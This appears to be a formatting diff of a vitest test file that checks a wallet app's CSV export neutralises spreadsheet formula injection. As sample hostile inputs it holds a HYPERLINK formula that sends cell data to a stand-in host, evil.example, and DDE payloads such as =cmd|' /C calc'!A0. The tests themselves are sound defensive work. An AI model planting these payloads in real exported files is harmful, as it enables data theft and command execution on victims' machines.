@@ -4,7 +4,14 @@
 import { describe, expect, it } from 'vitest';
 import type { ActivityItem } from '../../../src/provider/activity';
 import type { HistoryItem } from '../../../src/provider/swapApi';
-import { ACTIVITY_CSV_COLUMNS, HISTORY_CSV_COLUMNS, activityCsv, csvCell, historyCsv, toCsv } from '../../../src/ui/csv';
+import {
+  ACTIVITY_CSV_COLUMNS,
+  activityCsv,
+  csvCell,
+  HISTORY_CSV_COLUMNS,
+  historyCsv,
+  toCsv,
+} from '../../../src/ui/csv';
 
 /**
  * How a spreadsheet reads the file with `sep` as its separator: `quotes` true, a field that starts with
@@ -109,7 +116,15 @@ describe('csv', () => {
   });
 
   it('names its separator on the first line, joins rows with CRLF and ends with one', () => {
-    expect(toCsv(['a', 'b'], [['1', 'x,y'], [null, '"']])).toBe('sep=,\r\na,b\r\n1,"x,y"\r\n,""""\r\n');
+    expect(
+      toCsv(
+        ['a', 'b'],
+        [
+          ['1', 'x,y'],
+          [null, '"'],
+        ],
+      ),
+    ).toBe('sep=,\r\na,b\r\n1,"x,y"\r\n,""""\r\n');
   });
 
   it('exports every loaded history row with the columns in order', () => {
@@ -143,12 +158,28 @@ describe('csv', () => {
         checkedAt: null,
       },
     };
-    const swap: ActivityItem = { type: 'swap', key: item.key, at: Date.parse(item.createdAt), swap: { ...item, flow: 'withdraw' } };
+    const swap: ActivityItem = {
+      type: 'swap',
+      key: item.key,
+      at: Date.parse(item.createdAt),
+      swap: { ...item, flow: 'withdraw' },
+    };
     const lines = activityCsv([intent, swap]).split('\r\n').slice(1);
     expect(lines[0]).toBe(ACTIVITY_CSV_COLUMNS.join(','));
     expect(lines[0]).toMatch(/^createdAt,status,source,.*,localId,kind,account,site,summary$/);
     const cells = Object.fromEntries(ACTIVITY_CSV_COLUMNS.map((c, i) => [c, readCsv(lines[1]!, ',', true)[0]![i]]));
-    expect(cells).toMatchObject({ createdAt: '2026-01-02T03:04:06.000Z', status: 'SETTLED', source: 'local', intentHashes: 'H1', homeTxHashes: 'T1', kind: 'dapp', account: 'alice.near', site: 'https://app.example', summary: 'Give 1 wNEAR; Receive 3 USDC', originAsset: '' });
+    expect(cells).toMatchObject({
+      createdAt: '2026-01-02T03:04:06.000Z',
+      status: 'SETTLED',
+      source: 'local',
+      intentHashes: 'H1',
+      homeTxHashes: 'T1',
+      kind: 'dapp',
+      account: 'alice.near',
+      site: 'https://app.example',
+      summary: 'Give 1 wNEAR; Receive 3 USDC',
+      originAsset: '',
+    });
     expect(lines[2]).toBe(historyCsv([item]).split('\r\n')[2] + ',withdraw,,,');
   });
 
@@ -157,14 +188,32 @@ describe('csv', () => {
   const READERS = [',', ';', '\t'].flatMap((sep) => [true, false].map((quotes) => ({ sep, quotes })));
 
   it('neutralises a formula that starts after any separator or after leading whitespace, whatever separator the file is read with', () => {
-    const hostile: string[] = ['thanks;=HYPERLINK("http://evil.example/?"&A1,"click")', '=1+2";=1+2', "=1+2'\" ;,=1+2", ' =1+2', '\t=1+2', '\r=1+2', '\tcmd', '\rcmd'];
+    const hostile: string[] = [
+      'thanks;=HYPERLINK("http://evil.example/?"&A1,"click")',
+      '=1+2";=1+2',
+      '=1+2\'" ;,=1+2',
+      ' =1+2',
+      '\t=1+2',
+      '\r=1+2',
+      '\tcmd',
+      '\rcmd',
+    ];
     for (const sep of SEPARATORS) {
-      for (const t of TRIGGERS) hostile.push(`note${sep}${t}cmd|' /C calc'!A0`, `note${sep}  ${t}1+1`, `${t}SUM(A1)${sep}x`, `"quoted"${sep}${t}1`);
+      for (const t of TRIGGERS)
+        hostile.push(
+          `note${sep}${t}cmd|' /C calc'!A0`,
+          `note${sep}  ${t}1+1`,
+          `${t}SUM(A1)${sep}x`,
+          `"quoted"${sep}${t}1`,
+        );
     }
     for (const cell of hostile) {
       const written = toCsv(['memo'], [[cell]]);
       for (const { sep, quotes } of READERS) {
-        expect(formulas(written, sep, quotes), `${JSON.stringify(cell)} read with ${JSON.stringify(sep)}, quotes ${quotes}`).toEqual([]);
+        expect(
+          formulas(written, sep, quotes),
+          `${JSON.stringify(cell)} read with ${JSON.stringify(sep)}, quotes ${quotes}`,
+        ).toEqual([]);
       }
       // The file's own reader gets the cell back whole: one field, the text with an apostrophe before each formula start.
       const back = readCsv(written, ',', true)[2]!;
@@ -219,17 +268,28 @@ describe('csv', () => {
       type: 'swap',
       key: item.key,
       at: 2,
-      swap: { ...item, depositMemo: evil, recipient: 'bob.near\r\n=1+1', refundReason: ' @x', senders: ['a.near', '-b'], amountInFormatted: '-1.5', flow: 'withdraw' },
+      swap: {
+        ...item,
+        depositMemo: evil,
+        recipient: 'bob.near\r\n=1+1',
+        refundReason: ' @x',
+        senders: ['a.near', '-b'],
+        amountInFormatted: '-1.5',
+        flow: 'withdraw',
+      },
     };
     const file = activityCsv([intent, swap]);
     expect(file.startsWith('sep=,\r\n')).toBe(true);
-    for (const { sep, quotes } of READERS) expect(formulas(file, sep, quotes), `read with ${JSON.stringify(sep)}, quotes ${quotes}`).toEqual([]);
+    for (const { sep, quotes } of READERS)
+      expect(formulas(file, sep, quotes), `read with ${JSON.stringify(sep)}, quotes ${quotes}`).toEqual([]);
     // The comma reader gets every column; numbers are still numbers.
     const rows = readCsv(file, ',', true);
     expect(rows[1]).toEqual([...ACTIVITY_CSV_COLUMNS]);
     expect(rows[2]).toHaveLength(ACTIVITY_CSV_COLUMNS.length);
     expect(rows[3]).toHaveLength(ACTIVITY_CSV_COLUMNS.length);
     expect(rows[3]![ACTIVITY_CSV_COLUMNS.indexOf('amountInFormatted')]).toBe('-1.5');
-    expect(rows[2]![ACTIVITY_CSV_COLUMNS.indexOf('summary')]).toBe(`Give 1 wNEAR; '=cmd|' /C calc'!A0; thanks;'=HYPERLINK("http://evil.example/?"&A1,"click")`);
+    expect(rows[2]![ACTIVITY_CSV_COLUMNS.indexOf('summary')]).toBe(
+      `Give 1 wNEAR; '=cmd|' /C calc'!A0; thanks;'=HYPERLINK("http://evil.example/?"&A1,"click")`,
+    );
   });
 });
